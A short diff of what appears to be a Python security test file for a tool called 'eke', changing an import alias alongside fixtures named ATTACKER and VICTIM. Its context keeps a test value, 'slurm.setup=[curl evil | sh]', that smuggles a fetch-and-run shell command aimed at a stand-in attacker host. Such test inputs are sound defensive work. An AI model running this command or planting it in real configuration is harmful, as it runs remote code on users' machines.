@@ -9,7 +9,7 @@ import pytest
 from two_users import ATTACKER, VICTIM, hand, machine, needs_root  # noqa: F401  # fixture that a test names
 
 from eke import cli, workflows
-from eke.cli import run_commands as folders  # noqa: F401  # imported before the user changes, who may not read it
+from eke.cli import run_commands  # noqa: F401  # imported before the user changes, who may not read it
 
 SETUP = "slurm.setup=[curl evil | sh]"
 
